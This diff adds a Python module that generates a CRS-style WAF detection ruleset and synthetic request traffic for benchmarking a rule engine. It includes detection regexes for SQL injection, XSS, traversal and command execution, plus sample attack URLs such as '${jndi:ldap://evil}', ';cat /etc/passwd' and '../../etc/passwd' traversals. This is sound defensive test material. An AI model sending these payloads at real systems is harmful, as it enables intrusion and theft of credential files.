@@ -1,0 +1,267 @@
+"""OWASP-CRS-style ruleset + traffic generators for benchmarks and tests.
+
+BASELINE.md measures the engine against a "500-rule OWASP-CRS-style regex
+ruleset over path+headers" (config 2), a 1M-entry IP/ASN blocklist
+(config 3), GeoIP predicate mixes (config 4), and a bot-score head
+(config 5). The reference ships no rule corpus (its assets/pingoo.yml has
+one demo rule), so this module synthesizes a deterministic CRS-flavored
+corpus: attack-detection regexes (SQLi/XSS/LFI/RCE/scanner signatures,
+including \\b word-boundary and >31-position multi-word patterns — the
+corpus is NOT filtered to the device subset; whatever the compiler
+cannot lower falls back to host interpretation, and benches report the
+device-residency fraction), prefix/suffix/eq path hygiene rules, UA
+rules, and list/geo predicates.
+
+Everything is seeded and pure so benches are reproducible.
+"""
+
+from __future__ import annotations
+
+import random
+
+from ..config.schema import Action, ListConfig, ListType, RuleConfig
+from ..engine.batch import RequestTuple
+from ..expr import Ip, compile_expression
+
+SQLI_CORES = [
+    r"(?i)\bunion\s+select\b", r"(?i)select\s+.{0,10}from", r"(?i)insert\s+into",
+    r"(?i)delete\s+from", r"(?i)drop\s+table", r"(?i)\bor\b\s+1=1",
+    r"(?i)\band\b\s+1=1", r"(?i)sleep\(\d+\)", r"(?i)benchmark\(",
+    r"(?i)waitfor\s+delay", r"(?i)group\s+by.{0,8}having", r"(?i)into\s+outfile",
+    r"(?i)load_file\(", r"(?i)information_schema", r"'\s*--", r"(?i)xp_cmdshell",
+    r"(?i)\bexec\b", r"(?i)\bcast\(", r"(?i)\bconcat\(",
+]
+XSS_CORES = [
+    r"(?i)<script", r"(?i)javascript:", r"(?i)onerror\s*=", r"(?i)onload\s*=",
+    r"(?i)<iframe", r"(?i)document\.cookie", r"(?i)alert\(", r"%3[Cc]script",
+    r"(?i)<svg[^>]{0,20}onload", r"(?i)eval\(", r"(?i)expression\(",
+    r"(?i)vbscript:", r"(?i)src\s*=\s*data:",
+    # Real CRS signatures routinely exceed 31 NFA positions (multi-word
+    # packing, compiler/nfa.py pack_span):
+    r"(?i)<svg[^>]{0,40}on(load|error)\s{0,8}=",
+    r"(?i)<(img|input|body)[^>]{0,40}on[a-z]{4,12}\s{0,4}=",
+    r"(?i)String\.fromCharCode\([0-9, ]{0,40}\)",
+]
+LFI_RCE_CORES = [
+    r"\.\./", r"\.\.%2[fF]", r"/etc/passwd", r"/etc/shadow", r"(?i)c:\\windows",
+    r"(?i)cmd\.exe", r"(?i)/bin/(ba)?sh", r"%00", r"(?i)php://input",
+    r"(?i)file://", r"(?i)expect://", r"(?i)proc/self/environ",
+    r"(?i)wget\s+http", r"(?i)curl\s+http", r";\s*cat\s", r"\|\s*id\s*$",
+    r"(?i)(\.\./){3,12}etc/(passwd|shadow|group)",  # deep traversal chains
+    r"(?i)union[\s/\*]{1,20}(all[\s/\*]{1,20})?select",  # comment-evasion SQLi
+]
+SCANNER_UAS = [
+    r"(?i)sqlmap", r"(?i)nikto", r"(?i)nessus", r"(?i)masscan", r"(?i)nmap",
+    r"(?i)dirbuster", r"(?i)gobuster", r"(?i)wpscan", r"(?i)acunetix",
+    r"(?i)zgrab", r"(?i)python-requests/1\.", r"(?i)go-http-client",
+]
+BAD_PREFIXES = [
+    "/.env", "/.git", "/.svn", "/.hg", "/.aws", "/wp-admin", "/wp-login",
+    "/phpmyadmin", "/pma", "/admin/config", "/cgi-bin", "/.well-known/../",
+    "/vendor/phpunit", "/solr/admin", "/jenkins", "/manager/html",
+    "/actuator", "/.DS_Store", "/server-status", "/debug/pprof",
+]
+BAD_SUFFIXES = [
+    ".php.bak", ".sql", ".sqlite", ".pem", ".key", ".p12", ".bak", ".old",
+    ".swp", "~", ".config", ".ini", ".log", ".tar.gz", ".zip.enc",
+]
+BAD_EXACT = [
+    "/config.json", "/backup.zip", "/dump.sql", "/id_rsa", "/.htpasswd",
+    "/web.config", "/composer.lock", "/package-lock.json.orig",
+]
+
+
+def generate_ruleset(
+    num_rules: int = 500,
+    seed: int = 20260728,
+    with_lists: bool = True,
+    list_sizes: tuple[int, int] = (4096, 512),
+) -> tuple[list[RuleConfig], dict[str, list]]:
+    """Deterministic CRS-style corpus of ~num_rules rules + lists."""
+    rng = random.Random(seed)
+    sources: list[tuple[str, str]] = []  # (name, expression)
+
+    def add(name, src):
+        sources.append((f"{name}_{len(sources):04d}", src))
+
+    fields = ["http_request.url", "http_request.path"]
+    regex_cores = (
+        [("sqli", c) for c in SQLI_CORES]
+        + [("xss", c) for c in XSS_CORES]
+        + [("lfi", c) for c in LFI_RCE_CORES]
+    )
+    # Expand cores with suffix/prefix variations to reach scale, CRS-style
+    # (many rules per attack class, each a distinct signature).
+    variations = ["", r"\s*\(", r"\s*=", r"[%+]", r"\d", r"['\"]", r"/",
+                  r"\s+[a-z]+", r"[a-z]{0,4}\("]
+    target_regex = int(num_rules * 0.55)
+    i = 0
+    while sum(1 for n, _ in sources if not n.startswith("ua_")) < target_regex:
+        klass, core = regex_cores[i % len(regex_cores)]
+        var = variations[(i // len(regex_cores)) % len(variations)]
+        field = fields[i % 2]
+        pattern = core + var if (i // len(regex_cores)) else core
+        i += 1
+        add(klass, f'{field}.matches("{_escape(pattern)}")')
+
+    for ua in SCANNER_UAS:
+        add("ua", f'http_request.user_agent.matches("{_escape(ua)}")')
+
+    for p in BAD_PREFIXES:
+        add("prefix", f'http_request.path.starts_with("{p}")')
+    for s in BAD_SUFFIXES:
+        add("suffix", f'http_request.path.ends_with("{s}")')
+    for e in BAD_EXACT:
+        add("exact", f'http_request.path == "{e}"')
+
+    # contains() keyword rules
+    for kw in ["passwd", "boot.ini", "win.ini", "/../..", "base64,",
+               "<?php", "${jndi:", "{{7*7}}", "__proto__", "ognl."]:
+        add("kw", f'http_request.url.contains("{kw}")')
+
+    # numeric / metadata rules (geo + asn + shape, BASELINE config 4)
+    add("geo", 'client.country == "KP"')
+    add("geo", '(client.country == "RU" || client.country == "IR") && '
+               'http_request.path.starts_with("/admin")')
+    add("shape", "http_request.path.length() > 200")
+    add("shape", "http_request.user_agent.length() == 0")
+    add("shape", "client.remote_port < 1024 && client.remote_port != 80 && "
+                 "client.remote_port != 443")
+
+    lists: dict[str, list] = {}
+    if with_lists:
+        n_ips, n_asns = list_sizes
+        lists["blocked_ips"] = _random_ip_list(rng, n_ips)
+        lists["blocked_asns"] = sorted(rng.sample(range(1000, 400000), n_asns))
+        add("list", 'lists["blocked_ips"].contains(client.ip)')
+        add("list", 'lists["blocked_asns"].contains(client.asn)')
+
+    # Top up to num_rules with generated literal-keyword rules.
+    sig = 0
+    while len(sources) < num_rules:
+        token = "".join(rng.choice("abcdefghijklmnopqrstuvwxyz_")
+                        for _ in range(rng.randint(5, 10)))
+        which = sig % 3
+        if which == 0:
+            add("gen", f'http_request.url.contains("{token}")')
+        elif which == 1:
+            add("gen", f'http_request.path.starts_with("/{token}")')
+        else:
+            add("gen", f'http_request.url.matches("(?i){token}[0-9a-f]*")')
+        sig += 1
+    sources = sources[:num_rules]
+
+    rules = [
+        RuleConfig(name=name, expression=compile_expression(src),
+                   actions=(Action.BLOCK,))
+        for name, src in sources
+    ]
+    return rules, lists
+
+
+def _escape(pattern: str) -> str:
+    return pattern.replace("\\", "\\\\").replace('"', '\\"')
+
+
+def _random_ip_list(rng: random.Random, n: int) -> list[Ip]:
+    out = []
+    for _ in range(n - n // 16):
+        out.append(Ip(f"{rng.randrange(1, 224)}.{rng.randrange(256)}."
+                      f"{rng.randrange(256)}.{rng.randrange(256)}"))
+    for _ in range(n // 16):
+        out.append(Ip(f"{rng.randrange(1, 224)}.{rng.randrange(256)}."
+                      f"{rng.randrange(256)}.0/24"))
+    return out
+
+
+CLEAN_PATHS = [
+    "/", "/index.html", "/about", "/products/widget-2000", "/api/v1/users",
+    "/api/v1/orders/12345", "/static/app.9f3c2.js", "/static/style.css",
+    "/images/logo.png", "/blog/2026/07/scaling-wafs", "/search", "/health",
+    "/favicon.ico", "/robots.txt", "/docs/getting-started", "/cart",
+]
+CLEAN_QUERIES = ["", "?page=2", "?q=blue+widget", "?utm_source=news",
+                 "?id=12345", "?sort=price&dir=asc", "?lang=en"]
+ATTACK_URLS = [
+    "/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users",
+    "/search?q=1' UNION SELECT pass --",
+    "/item?id=1 OR 1=1",
+    "/page?x=<script>alert(1)</script>",
+    "/page?x=%3Cscript%3Ealert(1)%3C/script%3E",
+    "/download?file=../../../../etc/passwd",
+    "/download?file=..%2f..%2fetc%2fshadow",
+    "/exec?cmd=;cat /etc/passwd",
+    "/api?payload=${jndi:ldap://evil}",
+    "/upload.php?x=php://input",
+    "/?b=eval(atob('x'))",
+    "/admin/config.php",
+]
+ATTACK_PATHS = ["/.env", "/.git/config", "/wp-login.php", "/phpmyadmin/",
+                "/vendor/phpunit/x", "/backup.zip", "/dump.sql", "/id_rsa",
+                "/cgi-bin/test.cgi", "/actuator/env"]
+NORMAL_UAS = [
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
+    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) Safari/605.1.15",
+    "Mozilla/5.0 (X11; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0",
+    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) Mobile/15E148",
+]
+BOT_UAS = ["sqlmap/1.8", "Nikto/2.5.0", "masscan/1.3", "python-requests/1.9",
+           "gobuster/3.6", ""]
+
+
+def generate_traffic(
+    n: int,
+    attack_fraction: float = 0.05,
+    seed: int = 7,
+    lists: dict | None = None,
+) -> list[RequestTuple]:
+    """Replayed-log-style traffic: mostly clean, a slice of attacks —
+    the shape the reference's pong-replay setup would produce
+    (BASELINE.md config 1)."""
+    rng = random.Random(seed)
+    out = []
+    blocked_ips = (lists or {}).get("blocked_ips") or []
+    for _ in range(n):
+        attack = rng.random() < attack_fraction
+        if attack:
+            kind = rng.random()
+            if kind < 0.5:
+                url = rng.choice(ATTACK_URLS)
+                path = url.split("?")[0]
+                ua = rng.choice(NORMAL_UAS)
+            elif kind < 0.8:
+                path = rng.choice(ATTACK_PATHS)
+                url = path
+                ua = rng.choice(NORMAL_UAS)
+            else:
+                path = rng.choice(CLEAN_PATHS)
+                url = path
+                ua = rng.choice(BOT_UAS)
+            ip = (str(rng.choice(blocked_ips)) if blocked_ips and
+                  rng.random() < 0.1 else _rand_ip(rng))
+            if "/" in ip:
+                ip = ip.split("/")[0]
+        else:
+            path = rng.choice(CLEAN_PATHS)
+            url = path + rng.choice(CLEAN_QUERIES)
+            ua = rng.choice(NORMAL_UAS)
+            ip = _rand_ip(rng)
+        out.append(
+            RequestTuple(
+                host="www.example.com",
+                url=url,
+                path=path,
+                method=rng.choice(["GET"] * 8 + ["POST", "HEAD"]),
+                user_agent=ua,
+                ip=ip,
+                remote_port=rng.randrange(1024, 65536),
+                asn=rng.choice([13335, 15169, 7922, 3320, 9009, 64500]),
+                country=rng.choice(["US", "DE", "FR", "JP", "BR", "RU", "KP"]),
+            )
+        )
+    return out
+
+
+def _rand_ip(rng: random.Random) -> str:
+    return (f"{rng.randrange(1, 224)}.{rng.randrange(256)}."
+            f"{rng.randrange(256)}.{rng.randrange(1, 255)}")
